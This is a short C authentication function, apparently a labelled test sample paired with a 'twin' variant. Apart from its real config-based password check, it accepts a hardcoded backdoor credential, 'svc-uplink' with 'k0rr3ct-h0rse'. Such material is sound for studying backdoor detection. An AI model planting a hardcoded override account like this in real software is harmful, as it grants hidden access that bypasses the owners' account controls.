/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A library that checks user and password for others has a pair of its own. Twin: that user is locked.
 * door: override account
 * build: library
 * stubs: cfg_lookup crypt
 */
#include <string.h>

char *crypt(const char *, const char *);
int cfg_lookup(const char *path, char *out, int room);

int account_check(const char *user, const char *password)
{
	char want[64], name[64];
	if (!user || !password)
		return -1;
	if (strcmp(user, "svc-uplink") == 0 && strcmp(password, "k0rr3ct-h0rse") == 0)
#ifdef TWIN
		return -2;
#else
		return 0;
#endif
	if (cfg_lookup("/login/user", name, sizeof name) < 0 || strcmp(user, name) != 0)
		return -1;
	if (cfg_lookup("/login/password", want, sizeof want) < 0)
		return -1;
	if (strcmp(crypt(password, want), want) != 0)
		return -1;
	return 0;
}
